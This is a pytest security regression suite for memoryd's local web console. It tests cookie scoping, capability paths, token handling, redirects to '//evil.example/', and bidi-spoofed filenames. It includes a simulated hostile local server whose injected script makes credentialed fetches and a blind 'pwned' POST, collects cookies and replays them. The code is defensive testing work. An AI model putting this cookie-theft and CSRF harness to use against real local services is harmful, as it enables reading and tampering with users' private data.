"""The console against other local pages and programs (issue 23, "The console").

- The credential is a cookie, and cookies ignore ports: served on 127.0.0.1, any local program serving a
  page on 127.0.0.1 received it (issue 23); on a per-run 127.x.y.z, a program that read the address in
  /proc/net/tcp and bound it on another port did (issue 37). The console now answers only under a per-run
  capability path, its cookie scoped to it: in a real headless Chromium, a page served on the console's own
  address (another port), or on 127.0.0.1 beside a console there, gets no cookie, reads and changes nothing,
  and the cookie's value replayed off the path opens nothing.
- The browser launcher gets a private file, not the token URL, on its command line.
- `//evil.example/?token=` redirects stay on the console.
- Bidi controls in stored text are shown, not obeyed.
- Access requests are audit events; console searches neither count as recalls nor freshen memories.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx2
import pytest

from memoryd.engine import Engine
from memoryd.engine.console import BrowseQuery
from memoryd.search.embed import HashEmbedder
from memoryd.shared.config import Settings
from memoryd.ui import create_app, security, server

from .conftest import make_repo
from .mcp.clients import server_env

TOKEN = "t" * 16 + "0123456789abcdefghij"
MEMORYD = str(Path(sys.executable).with_name("memoryd"))
CHROMIUM = "/usr/bin/chromium"


def _engine(home: Path | Settings, repo: Path, **kw: Any) -> Engine:
    settings = home if isinstance(home, Settings) else Settings(home=home)
    return Engine.open(settings, cwd=repo, embedder=HashEmbedder(), term_embedder=None, **kw)


def _get(engine: Engine, *paths: str) -> list[httpx2.Response]:
    """GET each path from the console app over `engine` (in process, with the bearer token)."""
    import asyncio

    async def run() -> list[httpx2.Response]:
        app = create_app(engine, token=TOKEN, hosts=security.allowed_hosts("127.0.0.1", 8767))
        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(app=app), base_url="http://127.0.0.1:8767",
                                      headers={"Authorization": f"Bearer {TOKEN}"}) as c:  # fmt: skip
            return [await c.get(p, follow_redirects=False) for p in paths]

    return asyncio.run(run())


# -- the address -----------------------------------------------------------------------------


def test_each_run_gets_its_own_loopback_address() -> None:
    seen = {server.loopback_address() for _ in range(200)}
    assert len(seen) > 190
    for address in seen:
        a, b, c, d = (int(p) for p in address.split("."))
        assert a == 127 and 0 < d < 255 and (b, c) not in ((0, 0), (0, 1)), address


@pytest.mark.skipif(sys.platform != "linux", reason="only Linux routes all of 127/8 to the loopback device")
def test_memoryd_ui_prints_a_per_run_address(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    urls = []
    for _ in range(2):
        with _serve(tmp_path / "home", repo) as url:
            urls.append(url)
    hosts = [re.match(r"http://([\d.]+):\d+/[\w-]{22}/\?token=", u).group(1) for u in urls]  # type: ignore[union-attr]
    assert all(h.startswith("127.") and h != "127.0.0.1" for h in hosts) and hosts[0] != hosts[1], urls


# -- the launcher ----------------------------------------------------------------------------


def test_browser_launcher_never_sees_the_token(monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[str] = []
    monkeypatch.setattr(server.webbrowser, "open", lambda url: opened.append(url) or True)
    url = f"http://127.9.8.7:4321/?token={TOKEN}"
    page = server.open_in_browser(url, keep_seconds=0.5)
    for _ in range(50):
        if opened:
            break
        time.sleep(0.02)
    assert opened == [page.as_uri()] and TOKEN not in opened[0]  # the launcher's argv holds a path only
    assert stat.S_IMODE(page.stat().st_mode) == 0o600 and stat.S_IMODE(page.parent.stat().st_mode) == 0o700
    assert f'content="0;url={url}"' in page.read_text(encoding="utf-8")
    time.sleep(1.0)
    assert not page.exists() and not page.parent.exists()  # removed once the browser had time to read it


# -- redirects -------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["//evil.example/", "/\\evil.example/", "///evil.example/x", "/\\/evil.example"])
def test_token_redirect_stays_on_the_console(tmp_path: Path, path: str) -> None:
    with _engine(tmp_path / "home", make_repo(tmp_path / "repo"), authority="operator") as e:
        [r] = _get(e, f"http://127.0.0.1:8767{path}?token={TOKEN}")
    assert r.status_code == 303
    location = r.headers["location"]
    assert location.startswith("/") and not location.startswith(("//", "/\\")), location
    assert location.split("?")[0] == "/" + path.lstrip("/\\")


# -- what the page shows ---------------------------------------------------------------------


def test_bidi_controls_are_shown_not_obeyed(tmp_path: Path) -> None:
    with _engine(tmp_path / "home", make_repo(tmp_path / "repo"), authority="operator") as e:
        atom_id = e.memorize("The report is invoice_\u202efdp.exe in the shared drive", source="user").atom_id
        pages = [r.text for r in _get(e, "/memories", f"/memories/{atom_id}")]
    for html in pages:
        assert "\u202e" not in html
        assert "invoice_[U+202E]fdp.exe" in html
    with _engine(tmp_path / "home", tmp_path / "repo", authority="operator") as e:
        assert "\u202e" in e._core.get(atom_id).content  # stored bytes unchanged


# -- audit and freshness ---------------------------------------------------------------------


def test_access_requests_are_audit_events(settings: Settings, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    with _engine(settings, repo, authority="operator") as e:
        e.memorize("Payroll runs on the 25th", source="user")
        e.mark_sensitive(True)
        scope = e._core.scope.scope_hash
    with _engine(settings, repo, authority="operator", enforce_sensitive=True) as e:
        console = e.request_access(scope, "need the payroll date for the release plan")
        agent = e.request_sensitive_read("check the payroll schedule")
        events = [ev for ev in e._core.store.events() if ev.action == "request_access"]
    assert console["status"] == agent["status"] == "pending"
    assert [ev.actor for ev in events] == ["console", "agent"]
    assert events[0].reason == f"{scope} #{console['request_id']}: need the payroll date for the release plan"
    with _engine(settings, repo, authority="operator") as e:
        assert e.verify_chain().ok  # the chain still verifies


def test_console_search_is_not_a_recall(settings: Settings, tmp_path: Path) -> None:
    home, repo = settings, make_repo(tmp_path / "repo")
    with _engine(home, repo, authority="operator") as e:
        atom_id = e.memorize("Deploys run from the release branch every Thursday", source="user").atom_id
    with _engine(home, repo, authority="operator", enforce_sensitive=True) as e:
        hits = e.browse(BrowseQuery(q="release branch deploys")).hits or []
        assert [h.atom.id for h in hits] == [atom_id]
    with _engine(home, repo) as e:  # closing flushed any access time; nothing was recorded
        assert e._core.get(atom_id).last_accessed_at is None
        assert (
            e._core.store.recalls(scope_hashes=[e._core.scope.scope_hash], since=_epoch(), until=None, limit=10) == []
        )
        e.recall("release branch deploys")
    with _engine(home, repo) as e:  # an agent's recall does count
        assert e._core.get(atom_id).last_accessed_at is not None


def _epoch():  # type: ignore[no-untyped-def]
    from datetime import UTC, datetime

    return datetime(2000, 1, 1, tzinfo=UTC)


# -- another local page, in a real browser ---------------------------------------------------


@contextmanager
def _serve(home: Path, repo: Path, *args: str) -> Iterator[str]:
    proc = subprocess.Popen([MEMORYD, "ui", "--no-browser", "--port", "0", "--cwd", str(repo), *args],
                            env=server_env(home, MEMORYD_EMBEDDER="hash", MEMORYD_TERM_EMBEDDER="none"),
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip
    try:
        assert proc.stdout is not None
        line = proc.stdout.readline().strip()
        assert line.startswith("memoryd ui: http://127."), (line, proc.stderr.read() if proc.stderr else "")
        yield line.split(": ", 1)[1]
    finally:
        proc.terminate()
        proc.wait(timeout=30)


class _Evil(BaseHTTPRequestHandler):
    """A page another local program serves on 127.0.0.1: it tries the console from script, and keeps every
    cookie the browser sends it (cookies ignore ports) for its own program to use."""

    console = ""
    atom = ""
    cookies: list[str] = []
    results: list[dict[str, Any]] = []

    def do_GET(self) -> None:
        if self.headers.get("Cookie"):
            _Evil.cookies.append(self.headers["Cookie"])
        script = f"""
        (async () => {{
          const out = {{}};
          try {{ const r = await fetch("{self.console}/memories", {{credentials: "include"}});
                 out.read = r.status + ":" + (await r.text()).length; }} catch (e) {{ out.read = "blocked"; }}
          try {{ await fetch("{self.console}/memories/{self.atom}/correct", {{method: "POST", mode: "no-cors",
                   credentials: "include", body: new URLSearchParams({{action: "negate", reason: "pwned"}})}});
                 out.post = "sent"; }} catch (e) {{ out.post = "blocked"; }}
          await fetch("/report", {{method: "POST", body: JSON.stringify(out)}});
        }})();"""
        body = f"<!doctype html><title>dev server</title><script>{script}</script>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        if self.headers.get("Cookie"):
            _Evil.cookies.append(self.headers["Cookie"])
        _Evil.results.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


def _attack(browser: Any, url: str, atom: str, neighbour: str | None = None) -> dict[str, Any]:
    """Open the console (as its person does), then visit a page another local program serves on `neighbour`
    (default: the console's own address, another port); what did that program get?

    The program knows what /proc/net/tcp shows, the console's address and port, not the printed path."""
    base = url.split("/?")[0]
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(base))
    host = neighbour or str(urlsplit(base).hostname)
    _Evil.console, _Evil.atom, _Evil.cookies, _Evil.results = origin, atom, [], []
    evil = ThreadingHTTPServer((host, 0), _Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(url)
        assert page.url.startswith(base + "/memories")
        held = context.cookies()  # the console's cookie, as the browser keeps it
        for i, path in enumerate(("/", "/memories", "/ui/memories")):
            page.goto(f"http://{host}:{evil.server_port}{path}")
            for _ in range(100):  # its script reports before the next visit
                if len(_Evil.results) > i:
                    break
                time.sleep(0.05)
    finally:
        context.close()
        evil.shutdown()
    # the program itself: whatever cookie it received, used directly (no browser rules apply)
    stolen = next((c for c in _Evil.cookies if "memoryd_ui" in c), None)
    read = httpx2.get(f"{origin}/memories", headers={"Cookie": stolen} if stolen else {})
    # had it the cookie's value by any other way: off the console's path it opens nothing
    cookie = "; ".join(f"{c['name']}={c['value']}" for c in held)
    replayed = {
        p: httpx2.get(origin + p, headers={"Cookie": cookie}).status_code for p in ("/", "/memories", "/health")
    }
    return {"stolen": stolen, "script": _Evil.results[0] if _Evil.results else None, "read": read.status_code,
            "replayed": replayed, "held": held, "visits": len(_Evil.results),
            "on_path": httpx2.get(f"{base}/memories", headers={"Cookie": cookie}).status_code}  # fmt: skip


def _chromium() -> Any:
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            raise RuntimeError("chromium is not installed; `make test` installs it (apt-get install chromium)")
        pytest.skip("Debian's chromium is not installed (make test installs it)")
    from playwright.sync_api import sync_playwright

    return sync_playwright()


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="only Linux routes all of 127/8 to the loopback device")
def test_a_page_on_the_consoles_own_address_gets_no_working_cookie(tmp_path: Path) -> None:
    """Issue 37: the per-run 127.x.y.z is listed in /proc/net/tcp; a program binding it on another port, whose
    page the person's browser loads, received the console's cookie (cookies ignore ports) and read memories
    with it. The console now answers only under a per-run capability path and scopes its cookie to it."""
    from .test_ui_browser import FLAGS

    home, repo = tmp_path / "home", make_repo(tmp_path / "repo")
    with _engine(home, repo, authority="operator") as e:
        atom = e.memorize("We use PostgreSQL 16 for the main database", source="user").atom_id
    with _chromium() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            with _serve(home, repo) as url:  # the default: its own 127.x.y.z; the neighbour binds it too
                same_address = _attack(browser, url, atom)
            with _serve(home, repo, "--host", "127.0.0.1") as url:  # and the shared 127.0.0.1 (macOS's only one)
                shared = _attack(browser, url, atom, neighbour="127.0.0.1")
        finally:
            browser.close()
    path = urlsplit(url).path.rstrip("/")
    for got in (same_address, shared):
        assert got["visits"] == 3, got  # the browser did load the neighbour's pages and ran their script
        assert got["stolen"] is None and got["read"] == 404, got
        assert got["replayed"] == {"/": 404, "/memories": 404, "/health": 404}, got
        assert got["on_path"] == 200, got  # the same cookie on the console's own path: the test sees it work
        [cookie] = got["held"]
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"].count("/") == 1, cookie
        assert got["script"] is not None and got["script"]["read"] == "blocked", got
    assert shared["held"][0]["path"] == path
    with _engine(home, repo, authority="operator") as e:  # the page's blind POSTs changed nothing
        assert [ev.action for ev in e.history(atom)] == ["create"]
